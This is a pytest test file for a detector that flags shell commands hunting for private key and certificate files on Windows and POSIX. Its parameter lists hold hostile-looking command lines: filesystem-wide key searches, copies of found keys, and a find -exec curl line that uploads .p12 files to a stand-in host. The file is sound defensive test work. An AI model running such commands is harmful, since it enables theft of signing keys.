"""Searches for key files: by name over folders and indexes, and by what stands inside of them."""

from __future__ import annotations

import pytest
from codesignrisk_core import keyfiles
from codesignrisk_core.model import Report

from tests.core.lines import ids, posix, windows


def found(report: Report | None) -> list[str]:
    return sorted(ids(report))


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ("dir C:\\ /s /b *.pfx", ["hunt_key_files"]),
        ("dir /s/b D:\\*.p12", ["hunt_key_files"]),
        ("dir C:\\Users\\ann /s *.pvk", ["hunt_key_files"]),
        ("dir \\\\fs01\\c$ /s *.pfx", ["hunt_key_files", "input_remote"]),
        ("dir D:\\ /s .key", ["hunt_weak_key_files"]),
        # a whole home is searched for what may be keys all day; along with other secrets it is loot
        ("dir C:\\Users\\ann /s *.key", []),
        ("dir C:\\Users\\ann /s *.key *.txt", []),
        ("dir /s C:\\Users\\ann\\*.key C:\\Users\\ann\\*.kdbx", ["hunt_weak_key_files"]),
        ("dir C:\\Users\\ann\\ /s *pass* *.pem", ["hunt_weak_key_files"]),
        ("dir C:\\Users\\passat /s *.key", []),
        ("dir C:\\nginx\\conf /s *.key *pass*", []),
        ("dir C:\\ /s *.pfx *.p12", ["hunt_key_files", "several_key_kinds"]),
        ("dir /s /b *.pfx", ["search_key_files"]),
        ("dir C:\\certs\\web\\2024 /s *.pfx", ["search_key_files"]),
        ("dir C:\\certs\\*.pfx", ["list_key_files"]),
        ("dir C:\\nginx\\conf /s *.key", []),
        ("dir C:\\certs\\web.pfx", []),
        ("where /r C:\\ *.pfx", ["hunt_key_files"]),
        ("where openssl.exe", []),
        ('forfiles /p C:\\ /s /m *.p12 /c "cmd /c echo @path"', ["hunt_key_files"]),
        ('forfiles /p C:\\ /s /m *.p12 /c "cmd /c copy @path D:\\"', ["copy_key_files", "hunt_key_files"]),
        ("for /r C:\\Users %f in (*.pfx) do copy %f D:\\x", ["copy_key_files", "hunt_key_files"]),
        ("es.exe ext:pfx;p12", ["hunt_key_files", "several_key_kinds"]),
        ("es.exe -path C:\\work\\app\\src *.pfx", ["search_key_files"]),
        ("wmic datafile where \"extension='pfx'\" get name", ["hunt_key_files"]),
        ('findstr /s /m /c:"BEGIN RSA PRIVATE KEY" C:\\*', ["hunt_key_files"]),
        ('findstr /s /m "BEGIN PRIVATE KEY" *.*', ["hunt_key_files"]),
        ("findstr /e .pfx", ["list_key_files"]),
        ('findstr /s /i ".pfx" *.config', []),
        ('findstr /s "PRIVATE KEY" *.py', []),
        ("findstr /s /i BEGIN.RSA.PRIVATE.KEY C:\\Users\\*", ["hunt_key_files"]),
        ("findstr /s private.api.key C:\\Users\\*", []),
        ('find /i ".pfx" list.txt', []),
    ],
)
def test_searches_on_windows(line: str, indicators: list[str]) -> None:
    assert found(keyfiles.judge(windows(line))) == indicators


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ("find / -name *.p12", ["hunt_key_files"]),
        ("find / -name '*.p12' -o -name '*.jks'", ["hunt_key_files", "several_key_kinds"]),
        ("find / -regex '.*\\.\\(pfx\\|p12\\)'", ["hunt_key_files", "several_key_kinds"]),
        ("find ~ -iname *.pfx", ["hunt_key_files"]),
        (
            "find / -name *.p12 -exec curl -F f=@{} https://x.example/ ;",
            ["copy_key_files", "hunt_key_files", "key_leaves_host"],
        ),
        ("find / -name *.p12 -exec cp {} /srv ;", ["copy_key_files", "hunt_key_files"]),
        ("find / -name *.p12 -exec cp {} /tmp/k ;", ["copy_key_files", "hunt_key_files", "output_user_writable"]),
        ("find . -name *.p12", ["search_key_files"]),
        ("find / -name *.pem", ["hunt_weak_key_files"]),
        ("find / -name cacert.pem", []),
        ("find /etc -name *.key", []),
        ("find / -name web.pfx.txt", []),
        ("fd -e pfx . /", ["hunt_key_files"]),
        ("locate .p12", ["hunt_key_files"]),
        ("mdfind -name .p12", ["hunt_key_files"]),
        ("mdfind -onlyin /work/app/src .p12", ["search_key_files"]),
        ("grep -rl BEGIN PRIVATE KEY /", ["hunt_key_files"]),
        ("grep -rn BEGIN PRIVATE KEY src", []),
        ("grep -E '\\.(pfx|p12)$'", ["list_key_files"]),
    ],
)
def test_searches_on_posix(line: str, indicators: list[str]) -> None:
    assert found(keyfiles.judge(posix(line))) == indicators


@pytest.mark.parametrize(
    ("cwd", "indicators"),
    [("C:\\", ["hunt_key_files"]), ("C:\\Users", ["hunt_key_files"]), ("C:\\src\\app\\lib", ["search_key_files"])],
)
def test_a_search_begins_where_the_shell_stands(cwd: str, indicators: list[str]) -> None:
    assert found(keyfiles.judge(windows("dir /s *.pfx", cwd))) == indicators
